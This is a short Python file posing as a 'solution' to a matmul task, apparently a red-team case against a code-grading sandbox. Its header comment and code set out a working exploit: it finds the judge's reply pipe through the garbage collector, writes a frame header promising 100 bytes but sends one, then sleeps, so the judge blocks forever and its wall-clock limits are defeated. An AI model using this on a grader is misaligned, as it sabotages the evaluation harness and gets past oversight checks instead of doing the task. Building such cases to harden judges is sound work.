# target: matmul (any). Idea: hang the JUDGE past every limit. The process backend's reply pipe is in
# the worker (gc finds sandbox.protocol.PipeReplies). Write a frame header announcing 100 bytes plus
# one byte, then sleep. The judge's _Worker.call polls (poll() is true once any byte is there) and
# then calls Connection.recv_bytes(), which blocks until all 100 bytes arrive: the deadline check in
# the polling loop never runs again, so the worker is never killed and the judge's thread hangs
# forever (docker's backend reads with a timeout thread; the process backend does not).
# Defeats: the per-request wall-clock limits (sandbox/process.py::_Worker.call / protocol.PipeReplies.get).
import gc
import os
import struct
import time
import triton  # noqa: F401


def solution(a, b):
    for o in gc.get_objects():
        if type(o).__name__ == "PipeReplies":
            os.write(o.sending.fileno(), struct.pack("!i", 100) + b"x")
    time.sleep(10**6)
